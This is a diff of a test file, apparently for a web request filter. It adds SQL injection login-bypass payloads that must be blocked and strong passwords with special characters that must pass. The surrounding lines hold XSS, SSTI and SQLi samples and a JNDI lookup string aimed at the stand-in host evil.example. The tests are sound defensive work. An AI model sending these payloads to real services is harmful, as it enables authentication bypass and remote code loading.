@@ -39,6 +39,9 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     // A payload whose '&' the URL left raw: cut into parameters, read whole too.
     ["xss", send("GET", "/search?q=&gt%3B+src+onerror=confirm&amp%3Blpar%3B1&amp%3Brpar%3B&lt%3B")],
     ["ssti", send("POST", "/render", json, ['{"template":"{{7*7}}"}'])],
+    // The login bypass in the password field (a password is also PII: it is read for the attacks it is sent).
+    ["sqli", send("POST", "/login", json, ['{"username":"admin","password":"\' or \'1\'=\'1"}'])],
+    ["sqli", send("POST", "/login", [["content-type", "application/x-www-form-urlencoded"]], ["username=admin&password=%27+or+%271%27%3D%271"])],
     // In names, not values: JSON keys, query and form names (a bare name with no '=' too).
     ["jndi", send("POST", "/profile", json, ['{"user":{"${jndi:ldap://evil.example/a}":1}}'])],
     ["sqli", send("POST", "/profile", json, ['{"id\' OR 1=1--":1}'])],
@@ -187,6 +190,9 @@ test("prose and normal API calls pass", async () => {
     await send("GET", "/search?q=select+a+drop-off+point"),
     await send("POST", "/reviews", json, ['{"author":"O\'Brien","text":"I\'d rate it 4 or 5 stars. Use ```sql SELECT 1``` to test."}']),
     await send("GET", "/products/42?sort=price&order=asc"),
+    // Strong passwords: quotes, semicolons, '&', '$(' and '|' by chance.
+    await send("POST", "/login", json, ['{"username":"ann","password":"a\'b;c\\"d|e&f$(g)"}']),
+    await send("POST", "/login", [["content-type", "application/x-www-form-urlencoded"]], ["username=ann&password=P%40ss%27w0rd--x%3B(1)"]),
     await send("GET", "/products?page=2&amp;sort=price&title=Tom+&+Jerry"), // a link copied from HTML
     await send("GET", "/wiki/%C4%8Das:Foo/ma%C4%8Dka"), // "čas:", "mačka": U+010D in words
     // Slugs and names in REST paths, each segment read as a value.
